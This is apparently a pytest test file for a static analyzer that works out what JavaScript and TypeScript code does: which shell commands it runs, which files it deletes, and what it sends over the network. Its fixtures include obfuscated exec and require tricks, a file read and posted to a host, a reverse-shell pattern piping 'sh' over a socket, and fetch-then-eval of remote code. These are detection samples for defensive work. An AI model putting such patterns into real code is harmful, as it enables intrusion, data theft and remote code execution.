"""JavaScript: names and constants are followed to what a text does; what could act and is not understood is opaque."""

from typing import Any

import pytest

from interlock.facts.code.javascript.read import javascript_effects
from interlock.facts.effects import MODULES


def effects(text: str) -> dict[str, Any]:
    found = javascript_effects(text)
    assert found is not None, "does not parse"
    return {name: getattr(found, name) for name in found.__struct_fields__ if getattr(found, name)}


def shell(*lines: str) -> dict[str, Any]:
    return {"shell": list(lines)}


def deletes(*paths: str) -> dict[str, Any]:
    return {"deletes": list(paths)}


_CP = "require('child_process')"


@pytest.mark.parametrize(
    ("text", "found"),
    [
        # names
        ("const {execSync: e} = require('child_process'); e('ls a')", shell("ls a")),
        ("import * as fs from 'node:fs'; fs.rmSync('a')", deletes("a")),
        ("import fs, {rmSync as r} from 'fs'; r('a'); fs.rmSync('b')", deletes("a", "b")),
        ("(await import('fs')).default.rmSync('a')", deletes("a")),
        ("const {promises: p} = require('fs'); await p.rm('a', {recursive: true})", deletes("a")),
        ("import {rm} from 'fs/promises'; rm('a').then(() => console.log(1))", deletes("a")),
        ("process.mainModule.require('fs').rmSync('a')", deletes("a")),
        ("globalThis['process'].mainModule['requ' + 'ire']('fs')['rm' + 'Sync']('a')", deletes("a")),
        ("global.require('fs').rmSync('a')", deletes("a")),
        ("require('module').createRequire('/x')('fs').rmSync('a')", deletes("a")),
        ("module.constructor._load('child_process').execSync('ls')", shell("ls")),
        ("const r = require; const f = r('fs'); const g = f.rmSync.bind(f); g('a')", deletes("a")),
        ("require('fs').rmSync.call(null, 'a'); Reflect.apply(fs.rmSync, null, ['b'])", deletes("a", "b")),
        ("const o = {...require('fs')}; o.rmSync('a')", deletes("a")),
        ("const o = {}; o.go = require('child_process').execSync; o.go('ls')", shell("ls")),
        ("const all = [require('fs').rmSync]; all[0]('a')", deletes("a")),
        ("const {x: {y: [go]}} = {x: {y: [fs.rmSync]}}; go('a')", deletes("a")),
        ("class A { constructor(p) { this.p = p } go() { fs.rmSync(this.p) } } new A('a').go()", deletes("a")),
        ("\\u0072equire('fs').rmSync('\\x61')", deletes("a")),
        ("const run = require('util').promisify(require('child_process').exec); await run('ls')", shell("ls")),
        ("[].constructor.constructor('return process')().mainModule.require('fs').rmSync('a')", deletes("a")),
        ("new Function('return this')().process.mainModule.require('fs').rmSync('a')", deletes("a")),
        ("function f() { return this } f().process.kill(1)", {"traits": {"kills"}}),
        # texts
        ("const d = 'a'; fs.rmSync(`${d}/b`)", deletes("a/b")),
        ("let d = 'a'; d += '/b'; fs.rmSync(d)", deletes("a/b")),
        ("fs.rmSync(['a', 'b'].join('/'))", deletes("a/b")),
        (_CP + ".execSync(String.fromCharCode(108, 115))", shell("ls")),
        (_CP + ".execSync(Buffer.from('bHM=', 'base64').toString())", shell("ls")),
        (_CP + ".execSync(atob('bHMgYQ=='))", shell("ls a")),
        (_CP + ".execSync('sl'.split('').reverse().join(''))", shell("ls")),
        (_CP + ".execSync([107, 114].map(c => String.fromCharCode(c ^ 1)).join(''))", shell("js")),
        (_CP + ".execSync(decodeURIComponent('ls%20a'))", shell("ls a")),
        (_CP + ".execSync('Xls'.slice(1).replace('l', 'd').concat(' b'))", shell("ds b")),
        (_CP + ".execSync([...'ls'].join(''))", shell("ls")),
        ("fs.rmSync(path.join(os.homedir(), '.a', '..', 'b'))", deletes("~/.a/../b")),
        ("fs.rmSync(path.resolve('x', '/a', 'b'))", deletes("/a/b")),
        ("fs.rmSync(process.env.HOME + '/a')", deletes("~/a")),
        ("fs.rmSync(new URL('file:///a'))", deletes("/a")),
        ('const p = JSON.parse(\'{"a": ["b"]}\'); fs.rmSync(p.a[0])', deletes("b")),
        # control
        ("for (const d of ['a', 'b']) fs.rmSync(d)", deletes("a", "b")),
        ("for (let i = 0; i < 2; i++) fs.rmSync('a' + i)", deletes("a0", "a1")),
        ("for (const k in {a: 1, b: 2}) fs.rmSync(k)", deletes("a", "b")),
        ("Object.entries({a: 'b'}).forEach(([k, v]) => fs.rmSync(k + v))", deletes("ab")),
        ("let d = 'a'; if (Math.random() > 1) d = 'b'; fs.rmSync(d)", deletes("a", "b")),
        ("fs.rmSync(process.argv[2] ? 'a' : 'b')", deletes("a", "b")),
        ("const d = process.env.X || 'a'; fs.rmSync(d)", deletes("\0", "a")),
        ("try { x = 'a' } catch (e) {} finally { fs.rmSync(x) }", deletes("a")),
        ("switch (1) { case 1: fs.rmSync('a'); break; default: fs.rmSync('b') }", deletes("a", "b")),
        ("const f = (d, ...more) => fs.rmSync(d + more[0]); f('a', 'b')", deletes("ab")),
        ("function f({d = 'a'} = {}) { fs.rmSync(d) } f()", deletes("a")),
        ("(async () => { const d = await Promise.resolve('a'); await fs.promises.rm(d) })()", deletes("a")),
        ("new Promise(done => done('a')).then(d => fs.rmSync(d))", deletes("a")),
        ("setTimeout(() => fs.rmSync('a'), 10)", deletes("a")),
        ("setTimeout(\"require('fs').rmSync('a')\", 10)", deletes("a")),
        ("process.on('exit', function () { fs.rmSync('a') })", deletes("a")),
        ("function never() { fs.rmSync('a') }", deletes("a")),
        ("fs.readdirSync('a').forEach(f => fs.unlinkSync('a/' + f))", deletes("a/*")),
        ("eval('fs.rmSync(\"a\")')", deletes("a")),
        ("(0, eval)('require')('fs').rmSync('a')", deletes("a")),
        ("new Function('a', 'fs.rmSync(a)')('b')", deletes("b")),
        ("require('vm').runInThisContext('require(\"fs\").rmSync(\"a\")')", deletes("a")),
        ("import('data:text/javascript,process.kill(1)')", {"traits": {"kills"}}),
        ("const s = new Map(); s.set('k', fs.rmSync); s.get('k')('a')", deletes("a")),
        ("label: for (;;) { fs.rmSync('a'); break label }", deletes("a")),
        # files
        ("fs.writeFileSync('a', 'x'); fs.appendFile('b', 'x', () => {})", {"writes": ["a", "b"]}),
        ("fs.copyFileSync('a', 'b')", {"reads": ["a"], "writes": ["b"]}),
        ("fs.renameSync('a', 'b')", {"reads": ["a"], "writes": ["b"], "deletes": ["a"]}),
        ("fs.closeSync(fs.openSync('a', 'w'))", {"writes": ["a"]}),
        ("fs.openSync('a')", {"reads": ["a"]}),
        ("console.log(fs.readFileSync('a', 'utf8'))", {"reads": ["a"]}),
        ("process.chdir('/a'); fs.rmSync('b')", deletes("/a/b")),
        (
            "await Deno.remove('a', {recursive: true}); Deno.writeTextFileSync('b', '')",
            {"deletes": ["a"], "writes": ["b"]},
        ),
        ("await Bun.write('a', await Bun.file('b').text())", {"reads": ["b"], "writes": ["a"]}),
        ("await Bun.file('a').delete()", deletes("a")),
        ("import fse from 'fs-extra'; fse.removeSync('a')", deletes("a")),
        ("require('rimraf').sync('a')", deletes("a")),
        # programs
        (_CP + ".spawn('git', ['log', 'a b'])", shell("git log 'a b'")),
        (_CP + ".spawnSync('ls a', {shell: true})", shell("ls a")),
        (_CP + ".execFileSync('ls', ['-l'], {cwd: '/x'})", shell("cd /x && ls -l")),
        (_CP + ".fork('./a.js', ['b'])", shell("node ./a.js b")),
        (_CP + ".exec('ls', (err, out) => fs.rmSync('a'))", {"shell": ["ls"], "deletes": ["a"]}),
        ("const p = " + _CP + ".spawn('sh'); p.stdin.write('ls a')", shell("sh", "printf %s 'ls a' | sh")),
        (_CP + ".execSync('sh', {input: 'ls a'})", shell("printf %s 'ls a' | sh")),
        ("new Deno.Command('ls', {args: ['-l']}).outputSync()", shell("ls -l")),
        ("Deno.run({cmd: ['ls', 'a']})", shell("ls a")),
        ("Bun.spawn(['ls', 'a'])", shell("ls a")),
        ("import {$} from 'bun'; await $`ls ${'a b'}`", shell("ls 'a b'")),
        ("await Bun.$`ls a`.text()", shell("ls a")),
        ("import {execa} from 'execa'; await execa('ls', ['a'])", shell("ls a")),
        (
            "fs.writeFileSync('x.sh', 'ls a'); " + _CP + ".execSync('sh x.sh')",
            {"writes": ["x.sh"], "shell": ["printf %s 'ls a' > x.sh && sh x.sh"]},
        ),
        ("process.kill(1)", {"traits": {"kills"}}),
        ("process.kill(process.pid); process.kill(1, 0)", {}),
        # other machines
        (
            "fetch('https://a.org').then(r => r.json()).then(console.log)",
            {"urls": ["https://a.org"], "traits": {"network"}},
        ),
        (
            "axios.post('https://a.org', fs.readFileSync('b'))".replace("axios", "require('axios')"),
            {"reads": ["b"], "urls": ["https://a.org"], "traits": {"network"}, "sends": True},
        ),
        (
            "fetch('https://a.org/?q=' + fs.readFileSync('b'))",
            {"reads": ["b"], "urls": ["https://a.org/?q=\0"], "traits": {"network"}, "sends": True},
        ),
        (
            "const q = require('https').request({hostname: 'a.org', method: 'POST'}); q.write('x'); q.end()",
            {"urls": ["https://a.org/"], "traits": {"network"}, "sends": True},
        ),
        (
            "const s = require('net').connect(4444, 'a.org', () => s.write('x'))",
            {"urls": ["https://a.org:4444/"], "traits": {"network"}, "sends": True},
        ),
        ("require('http').createServer((q, r) => r.end('x')).listen(80)", {"traits": {"network/listens"}}),
        ("Bun.serve({port: 1, fetch: () => new Response('x')})", {"traits": {"network/listens"}}),
        (
            "fs.createReadStream('a').pipe(require('http').request('http://a.org/'))",
            {"reads": ["a"], "urls": ["http://a.org/"], "traits": {"network"}, "sends": True},
        ),
        (
            "s = "
            + _CP
            + ".spawn('sh'); net.connect(1, 'a.org', function () { this.pipe(s.stdin); s.stdout.pipe(this) })",
            {"shell": ["sh"], "urls": ["https://a.org:1/"], "traits": {"network"}, "sends": True},
        ),
        # data
        (
            "const {Client} = require('pg'); const c = new Client(); c.query('DROP TABLE t')",
            {"traits": {"database/drops", "database/writes"}, "modules": True, "opaque": MODULES},
        ),
        ("prisma.user.deleteMany({})", {"traits": {"database/drops"}}),
        # TypeScript
        ("const d: string = 'a'; fs.rmSync(d as any)", deletes("a")),
        ("type A = {b: string}; interface C { d(): void }\nenum E { F = 1 }\nfs.rmSync(<any>('a'))", deletes("a")),
        ("function f<T extends object>(d: T, e?: number): void { fs.rmSync('a') } f<X>('a')", deletes("a")),
    ],
)
def test_what_constants_lead_to_is_found(text: str, found: dict[str, Any]):
    assert effects(text) == found


@pytest.mark.parametrize(
    "text",
    [
        "console.log(1)",
        "console.log(JSON.stringify(JSON.parse(process.argv[1]), null, 2))",
        "process.stdin.on('data', d => console.log(JSON.parse(d).version))",
        "let s = ''; process.stdin.on('data', c => s += c).on('end', () => console.log(JSON.parse(s).a.b))",
        "console.log(process.versions.node, process.platform, process.env.PATH)",
        "console.log(require('./package.json').version)",
        "console.log([3, 1, 2].sort((a, b) => a - b).map(String).filter(Boolean).reduce((a, b) => a + b))",
        "console.log(require('crypto').randomBytes(16).toString('hex'))",
        "console.log(new Date().toISOString(), Date.now(), Math.max(1, 2))",
        "const {resolve} = require('path'); console.log(fs.existsSync(resolve('./a')))",
        "console.log(Object.keys(require('fs')).length)",
        "console.log(/a+/.exec('b'), 'x'.match(/[/]/), 4 / 2 / 1)",
        "console.log(require.resolve('typescript'))",
        "const x = {a: 1, get b() { return 2 }, async c() {}}; console.log(x?.a ?? x.b, `${x.a}`)",
        "console.log(typeof Deno, typeof Bun, import.meta.url)",
        "console.log(new URL('https://a.org/x').hostname)",
        "class A extends Error { constructor(m) { super(m); this.name = 'A' } } try { throw new A('x') } catch (e) { }",
        "const m = new Map([['a', 1]]); for (const [k, v] of m) console.log(k, v)",
        "setTimeout(() => process.exit(0), 100)",
        "const f = n => n < 2 ? n : f(n - 1) + f(n - 2); console.log(f(20))",
        "let i = 0; while (true) { if (i++ > 10) break } do { i-- } while (i)",
        "console.log(require('os').cpus().length, require('util').inspect({a: 1}))",
        "process.exitCode = 1; console.error('x')",
        "const a = [1, 2]; const [b, ...c] = a; console.log({...{b}, c})",
        "console.log(String.raw`a\\b`, 'é', 0x10, 1_000, .5, 10n)",
    ],
)
def test_a_text_that_only_reckons_and_prints_does_nothing(text: str):
    found = effects(text)
    found.pop("reads", None)
    assert found == {}


@pytest.mark.parametrize(
    "text",
    [
        "eval(x)", "new Function(process.argv[2])()", "require(process.argv[2])", "import(process.env.A)",
        _CP + ".execSync(process.argv[2])", _CP + ".execSync(`ls ${process.argv[2]}`)", _CP + "[process.argv[2]]('x')",
        "strange('x')", "Object.values(" + _CP + ")[3]('ls')", "process.binding('spawn_sync').spawn({})",
        "require('ffi-napi')", "new Proxy(" + _CP + ", {}).execSync('ls')", "fs.somethingNew('a')",
        "setTimeout(x, 1)", "globalThis[process.argv[2]]('x')", "const {[process.argv[2]]: f} = " + _CP + "; f('x')",
        "process.dlopen(module, 'x.node')", "console.log(1); \0",
    ],
)  # fmt: skip
def test_what_could_act_and_is_not_understood_is_opaque(text: str):
    assert effects(text).get("opaque")


def test_calls_into_modules_that_are_not_read_are_told_from_the_rest():
    assert effects("require('lodash').chunk([1], 2)")["opaque"] == MODULES
    assert "opaque" not in effects("console.log(require('./node_modules/x').configs.y)")
    assert "opaque" not in effects("require('./x').y.forEach((c, i) => console.log(i, Object.keys(c)))")


def test_code_from_the_network_is_said_to_be():
    for text in (
        "fetch('https://a.org').then(r => r.text()).then(t => eval(t))",
        "https.get('https://a.org', r => { let s = ''; r.on('data', c => s += c); r.on('end', () => eval(s)) })",
        "fetch('https://a.org').then(r => r.text()).then(eval)",
        "(async () => { eval(await (await fetch('https://a.org')).text()) })()",
        "fetch('https://a.org').then(r => r.text()).then(t => require('child_process').execSync(t))",
    ):
        assert effects(text)["opaque"] == "evaluates a text that comes from the network"


def test_a_module_outside_of_the_project_is_a_file_that_runs():
    assert effects("require('/tmp/a.js')")["shell"] == ["node /tmp/a.js"]
    assert "shell" not in effects("require('./a.js'); require('/x/node_modules/y')")


def test_what_an_address_gives_is_run_only_from_a_registry():
    assert "executes-download" in effects("import('https://a.example/x.js')")["traits"]
    assert "executes-download" not in effects("import {x} from 'https://deno.land/std/a.ts'")["traits"]


@pytest.mark.parametrize(
    "text",
    [
        "a <!-- b\nfs.rmSync('c')",
        "x\n--> fs.rmSync('c')",
        "with (a) { b }",
        "const = 1",
        "'unended",
        "`unended ${",
        "(((",
        "a b",
    ],
)
def test_what_is_not_javascript_is_not_read_as_such(text: str):
    assert javascript_effects(text) is None


@pytest.mark.parametrize(
    "text",
    [
        "// a \u2028fs.rmSync('c')",
        "/* a */ fs.rmSync('c')",
        "a = b\n/* x\n*/fs.rmSync('c')",
        "a = x /2/ fs.rmSync('c')",
        "a = `//${fs.rmSync('c')}`",
        "a = /[/'\"]/; fs.rmSync('c') //'",
        "if (a) /'/.test(b); fs.rmSync('c') //'",
        "a = {} / 1; fs.rmSync('c') // /",
        "#!/usr/bin/env node\nfs.rmSync('c')",
        "a\n++\nb\nfs.rmSync('c')",
        "const f = () => {}\n[fs.rmSync('c')]",
        "var a = 1, b = (c, fs.rmSync('c'))",
        "a ? (b) : c => d; fs.rmSync('c')",
        "a < b > (fs.rmSync('c'))",
        "x: fs.rmSync('c')",
        "type\nX = fs.rmSync('c')",
        "async\n(fs.rmSync('c'))",
        "a?.[fs.rmSync('c')]?.(1)",
    ],
)
def test_no_form_of_writing_hides_a_call(text: str):
    found = javascript_effects(text)
    assert found is not None
    assert found.deletes == ["c"]
